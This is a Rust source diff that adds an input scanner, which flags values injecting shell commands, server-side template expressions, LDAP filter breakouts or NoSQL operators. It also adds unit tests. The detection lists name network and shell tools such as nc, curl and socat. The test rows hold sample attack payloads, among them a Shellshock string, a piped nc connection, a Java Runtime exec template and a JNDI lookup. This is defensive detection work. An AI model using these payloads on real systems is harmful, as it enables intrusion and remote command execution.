@@ -1,0 +1,250 @@
+//! Finds values that break out into a shell, a template, an LDAP filter or a document query.
+//!
+//! Pure functions; a decoded copy is kept in the shard's scratch.
+
+use memchr::memmem::find;
+
+use super::builtin::Builtin;
+use super::decode;
+use super::detect::Sink;
+
+/// Looks at one value of unknown use.
+pub(super) fn check(buffer: &mut Vec<u8>, sink: &mut Sink<'_>, text: &[u8], is_command: bool) {
+    decode::percent(text, b"", buffer);
+    let text = buffer.as_slice();
+    templates(sink, text);
+    if is_command {
+        // A command line may hold any of the rest by right; the shell detector has judged it.
+        return;
+    }
+    injected(sink, text);
+    ldap(sink, text);
+    nosql(sink, text);
+}
+
+/// Looks at a path or a URL, where a shell may be waiting behind.
+pub(super) fn check_injected(buffer: &mut Vec<u8>, sink: &mut Sink<'_>, text: &[u8]) {
+    decode::percent(text, b"", buffer);
+    injected(sink, buffer);
+}
+
+/// Commands that payloads run to prove or to look around.
+const PROBES: &[&[u8]] = &[
+    b"id", b"whoami", b"ls", b"cat", b"ping", b"sleep", b"wget", b"curl", b"nc", b"ncat", b"netcat", b"uname", b"dir", b"type", b"net", b"ifconfig", b"ipconfig", b"systeminfo", b"sysinfo", b"netstat", b"perl",
+    b"php", b"python", b"python3", b"ruby", b"bash", b"sh", b"echo", b"phpinfo", b"nslookup", b"dig", b"host", b"rm", b"del", b"copy", b"cp", b"mv", b"env", b"printenv", b"set", b"ps", b"w", b"who", b"hostname", b"netsh", b"reg",
+    b"powershell", b"cmd", b"tasklist", b"route", b"arp", b"find", b"touch", b"chmod", b"kill", b"telnet", b"ftp", b"tftp", b"nmap", b"socat", b"base64", b"system", b"exec", b"passthru", b"shell_exec", b"eval", b"head", b"tail", b"more", b"less", b"pwd", b"nid", b"reboot", b"shutdown", b"dd", b"mkfs", b"git", b"kubectl", b"aws", b"docker", b"ver", b"id;",
+];
+
+/// What tells a probe's argument from a sentence.
+fn is_argument(word: &[u8]) -> bool {
+    word.is_empty()
+        || word.iter().any(|byte| matches!(byte, b'/' | b'\\' | b'.' | b'-' | b':' | b'$' | b'%' | b'*' | b'>' | b'<' | b'(' | b'\'' | b'"' | b'`' | b'&' | b'|' | b'#'))
+        || word.iter().all(u8::is_ascii_digit)
+        || matches!(word, b"user" | b"users" | b"localgroup" | b"view" | b"firewall" | b"group")
+}
+
+/// `; id`, `| cat /etc/passwd`, `` `whoami` ``, `$(sleep 5)`, `() { :;}; …`
+fn injected(sink: &mut Sink<'_>, text: &[u8]) {
+    if find(text, b"() {").is_some_and(|at| at < 4) && find(text, b"};").is_some() {
+        sink.report(Builtin::ShellInjected);
+        return;
+    }
+    let mut at = 0;
+    // LIMIT: a payload breaks out within its first separators.
+    for _ in 0..24 {
+        let Some(found) = text.get(at..).unwrap_or_default().iter().position(|byte| matches!(byte, b';' | b'|' | b'&' | b'`' | b'\n' | b'\r' | b'$')) else { break };
+        let start = at + found;
+        let separator = text.get(start).copied().unwrap_or(0);
+        at = start + 1;
+        let mut rest = text.get(at..).unwrap_or_default();
+        if separator == b'$' {
+            let Some(inner) = rest.strip_prefix(b"(") else { continue };
+            rest = inner;
+        }
+        let skipped = rest.iter().take(16).take_while(|byte| matches!(byte, b' ' | b'\t' | b';' | b'|' | b'&' | b'\'' | b'"' | b'\\' | b'`' | b'{' | b'(' | b'\n' | b'\r')).count();
+        let rest = rest.get(skipped..).unwrap_or_default();
+        let length = rest.iter().take(64).take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'_' | b'.' | b'-')).count();
+        let (word, behind) = rest.split_at_checked(length).unwrap_or((rest, b""));
+        let name = word.rsplit(|byte| *byte == b'/').next().unwrap_or(word);
+        let absolute = word.starts_with(b"/bin/") || word.starts_with(b"/usr/bin/") || word.starts_with(b"/sbin/");
+        if !absolute && !PROBES.contains(&name) {
+            continue;
+        }
+        let ends = behind.trim_ascii_start();
+        let argument_end = ends.iter().position(|byte| byte.is_ascii_whitespace()).unwrap_or(ends.len());
+        let argument = ends.get(..argument_end).unwrap_or_default();
+        let argument = argument.get(..argument.iter().rposition(|byte| !matches!(byte, b')' | b'}' | b';' | b'`')).map_or(0, |at| at + 1)).unwrap_or(argument);
+        let closes = behind.first().is_none_or(|byte| !matches!(byte, b'=' | b',' | b'[')) && is_argument(argument);
+        // In `a; ls` and at the start of a value any separator counts; inside a query string `&id=5` does not.
+        let lone_amp = separator == b'&' && behind.first() == Some(&b'=');
+        let in_prose = matches!(separator, b'\n' | b'\r') && start > 0 && argument.is_empty() && !(start <= 3 || behind.is_empty() || behind.starts_with(b"\n"));
+        // `&#x27;id` and `&lt;` are entities, `a | b` in a table is no pipe: words of prose follow those.
+        let is_entity = separator == b';' && text.get(..start).unwrap_or_default().iter().rev().take(8).any(|byte| *byte == b'&');
+        if closes && !lone_amp && !in_prose && !is_entity {
+            sink.report(Builtin::ShellInjected);
+            return;
+        }
+    }
+    let trimmed = text.trim_ascii();
+    let calls = [
+        b"system('".as_slice(), b"system(\"", b"system('", b"exec('", b"exec(\"", b"passthru('", b"shell_exec('", b"shell_exec(\"", b"popen('", b"popen(\"", b"eval('", b"eval(\"", b"phpinfo()", b"system(id", b"system($_", b"eval($_", b"exec($_", b"assert($_", b"$_get[", b"$_GET[", b"$_POST[",
+        b"$_REQUEST[", b"<?php", b"print(system(", b"php://input", b"cmd=",
+    ];
+    let is_short = trimmed.len() < 200 && memchr::memchr(b'\n', trimmed).is_none();
+    if is_short && calls.iter().any(|call| find(trimmed, call).is_some_and(|at| *call != b"cmd=" && at < 64 || at > 0 && find(trimmed, b"exec").is_some())) {
+        sink.report(Builtin::ShellProbe);
+    }
+}
+
+/// What only an expression that reaches for the machine holds.
+const REACHES: &[&[u8]] = &[
+    b"__class__", b"__globals__", b"__import__", b"__init__", b"__mro__", b"__subclasses__", b"__builtins__", b"__base__", b".mro()", b".subclasses()", b"__class", b"getclass", b"forname(", b"getruntime", b"processbuilder", b"t(java", b"t(org", b"java.lang", b".class.", b"freemarker", b"?new()", b"?api", b"system(", b"exec(",
+    b"popen(", b"eval(", b"passthru", b"phpinfo", b"jndi:", b"config.items", b"config.", b"self._", b"self.", b"|attr(", b"lipsum", b"cycler.", b"joiner.", b"url_for.", b"get_flashed", b"request.application", b"request|attr", b"constructor", b"process.", b"require(", b"global.process", b"file_get_contents", b"registerundefinedfilter",
+    b"registerfilter", b"_self.env", b"runtime", b"class.forname", b"import os", b"import(", b"os.system", b"subprocess", b"open(", b"file.open", b"file.read", b"dir.entries", b"io.popen", b"print(", b"sleep(", b"getenv", b"secret", b"$_server", b"$_get", b"dump(app", b"app.request", b"app[", b"|filter(", b"|map(", b"|sort(", b"_context",
+];
+
+/// Expressions in template marks that compute with numbers or reach for the machine.
+fn templates(sink: &mut Sink<'_>, text: &[u8]) {
+    const MARKS: &[(&[u8], &[u8])] = &[(b"{{", b"}}"), (b"${", b"}"), (b"#{", b"}"), (b"*{", b"}"), (b"<%", b"%>"), (b"{%", b"%}"), (b"@(", b")"), (b"[[", b"]]"), (b"{@", b"}"), (b"{php}", b"{/php}"), (b"{{=", b"}}"), (b"~{", b"}"), (b"{$", b"}")];
+    let is_hit = MARKS.iter().any(|(open, close)| {
+        let mut from = 0;
+        // LIMIT: a handful of expressions per kind of mark.
+        for _ in 0..8 {
+            let Some(at) = find(text.get(from..).unwrap_or_default(), open) else { return false };
+            let body = text.get(from + at + open.len()..).unwrap_or_default();
+            let end = find(body, close).unwrap_or(body.len().min(256));
+            let body = body.get(..end).unwrap_or_default();
+            from += at + open.len();
+            if !body.starts_with(b"{") && computes(body) || reaches(body) {
+                return true;
+            }
+        }
+        false
+    });
+    let directives = [
+        b"<#assign".as_slice(), b"#set($", b"#set ($", b"<#list", b"{php}", b"{literal}", b"<%=`", b"#evaluate(", b"{system(", b"{{'a'.getclass", b"<%!", b"th:text=", b"<jsp:", b"{{[].", b"{{''.", b"{{\"\".", b"{{()", b"{{request", b"{{dump", b"{{config", b"{{self", b"{{settings", b"{{app", b"{{ config", b"{% debug", b"{% for", b"{% include", b"{% import", b"{{range.", b"{{#with",
+    ];
+    if is_hit || directives.iter().any(|part| contains_folded(text, part)) {
+        sink.report(Builtin::MarkupTemplate);
+    }
+}
+
+/// `7*7`, `'7'*7`, `3 + 4`: numbers that a template would compute.
+fn computes(body: &[u8]) -> bool {
+    let body = body.trim_ascii();
+    if body.len() > 24 {
+        return false;
+    }
+    let mut operators = 0;
+    let mut digits = 0;
+    for byte in body {
+        match byte {
+            b'*' => operators += 1,
+            b'+' | b'-' | b'/' => operators += usize::from(digits > 0),
+            b'0'..=b'9' => digits += 1,
+            b'\'' | b'"' | b' ' | b'(' | b')' | b'[' | b']' | b'=' => {}
+            _ => return false,
+        }
+    }
+    operators > 0 && digits >= 2
+}
+
+fn reaches(body: &[u8]) -> bool {
+    REACHES.iter().any(|part| contains_folded(body, part) && (!matches!(*part, b"secret" | b"config." | b"app[" | b"runtime" | b"self." | b"process." | b"constructor" | b"print(" | b"open(" | b"import(") || is_bold(body)))
+}
+
+/// Words that also occur in honest templates count only where they are called or dug into.
+fn is_bold(body: &[u8]) -> bool {
+    memchr::memchr(b'(', body).is_some() || find(body, b"__").is_some() || memchr::memchr_iter(b'.', body).count() >= 3
+}
+
+/// Case-blind search for a lower-case part.
+fn contains_folded(text: &[u8], part: &[u8]) -> bool {
+    let Some(first) = part.first() else { return false };
+    let upper = first.to_ascii_uppercase();
+    let mut from = 0;
+    while let Some(at) = memchr::memchr2(*first, upper, text.get(from..).unwrap_or_default()) {
+        let start = from + at;
+        from = start + 1;
+        if text.get(start..start + part.len()).is_some_and(|head| head.eq_ignore_ascii_case(part)) {
+            return true;
+        }
+    }
+    false
+}
+
+/// Parentheses that close before they open, with filter syntax around them.
+fn ldap(sink: &mut Sink<'_>, text: &[u8]) {
+    if memchr::memchr(b')', text).is_none() && memchr::memchr(b'(', text).is_none() {
+        return;
+    }
+    let mut depth = 0_i32;
+    let mut lowest = 0;
+    for byte in text {
+        depth += i32::from(*byte == b'(') - i32::from(*byte == b')');
+        lowest = lowest.min(depth);
+    }
+    let syntax = [b")(|".as_slice(), b")(&", b"*)(", b"*)|", b"(|(", b"(&(", b")(cn=", b")(uid=", b"*))", b"*()|", b"|(", b")(objectclass", b"=*)", b"=*))", b"(|", b")(!("].iter().any(|part| contains_folded(text, part));
+    let attribute = memchr::memchr(b'=', text).is_some() || text.contains(&b'*');
+    if syntax && attribute && (lowest < 0 || depth != 0) && text.len() < 512 && memchr::memchr(b'\n', text).is_none() && find(text, b"; ").is_none() {
+        sink.report(Builtin::LdapInjection);
+    }
+}
+
+/// `[$ne]=1`, `{"$gt": ""}`, `$where: '1 == 1'`, `' && this.password.match(…)`
+fn nosql(sink: &mut Sink<'_>, text: &[u8]) {
+    let has = |part: &[u8]| find(text, part).is_some();
+    let bracket = [b"[$ne]".as_slice(), b"[$gt]", b"[$lt]", b"[$gte]", b"[$regex]", b"[$exists]", b"[$in]", b"[$nin]", b"[$eq]"].iter().any(|part| has(part));
+    let where_code = has(b"$where") && (has(b"'") || has(b"\"") || has(b"function") || has(b"==") || has(b":"));
+    let script = (text.starts_with(b"'") || text.starts_with(b"\"") || text.starts_with(b"||") || text.starts_with(b"&&")) && (has(b"this.") || has(b"return ") || has(b"return(") || has(b"sleep(") || has(b"$comment") || has(b"==") && has(b"||"));
+    let empty = [b"\"$gt\": \"\"".as_slice(), b"\"$gt\":\"\"", b"$gt: ''", b"$gt:''", b"\"$ne\": null", b"\"$ne\":null", b"\"$ne\": \"\"", b"\"$ne\":\"\"", b"$ne: null", b"$ne: ''", b"\"&exists\"", b"\"$ne\": 1", b"\"$ne\":1", b"$ne:1", b"$ne: 1", b"{\"$regex\":\".*\"}"]
+        .iter()
+        .any(|part| has(part));
+    let store = has(b"db.") && (has(b".insert(") || has(b".drop(") || has(b"db.injection"));
+    if bracket || where_code || script || empty || store || text.starts_with(b"{ $ne") || text.starts_with(b"{$ne") {
+        sink.report(Builtin::NosqlInjection);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::tests::check_argument;
+
+    #[test]
+    fn break_outs_are_told_from_text() {
+        let rows = [
+            ("; id", Some("shell.injected-command")),
+            ("a.txt; cat /etc/hosts", Some("shell.injected-command")),
+            ("x | nc 10.0.0.1 80", Some("shell.injected-command")),
+            ("`whoami`", Some("shell.injected-command")),
+            ("$(sleep 5)", Some("shell.injected-command")),
+            ("127.0.0.1%0Aid", Some("shell.injected-command")),
+            ("() { :;}; /bin/bash -c 'id'", Some("shell.injected-command")),
+            ("{{7*7}}", Some("markup.template")),
+            ("${7*7}", Some("markup.template")),
+            ("<%= 7*7 %>", Some("markup.template")),
+            ("{{''.__class__.__mro__}}", Some("markup.template")),
+            ("${T(java.lang.Runtime).getRuntime().exec('id')}", Some("markup.template")),
+            ("${jndi:ldap://x/a}", Some("markup.template")),
+            ("*)(uid=*))(|(uid=*", Some("injection.ldap")),
+            ("admin*)((|userpassword=*)", Some("injection.ldap")),
+            ("user[$ne]=1", Some("injection.nosql")),
+            ("{\"$gt\": \"\"}", Some("injection.nosql")),
+            ("(&(objectClass=user)(cn=bob))", None),
+            ("{\"age\":{\"$gt\":5}}", None),
+            ("bread & cat food", None),
+            ("salt; pepper; oil", None),
+            ("R&D and Q&A", None),
+            ("a=1&id=5&set=6", None),
+            ("{{name}}", None),
+            ("${{ secrets.TOKEN }}", None),
+            ("${HOME}/bin", None),
+            ("Hello {{ user.first_name }}, your order {{ order.id }}", None),
+            ("f(x) = (a + b) * c", None),
+            ("see (1) and (2)", None),
+        ];
+        for (text, expect) in rows {
+            assert_eq!(check_argument("input", text).as_deref(), expect, "{text}");
+        }
+    }
+}
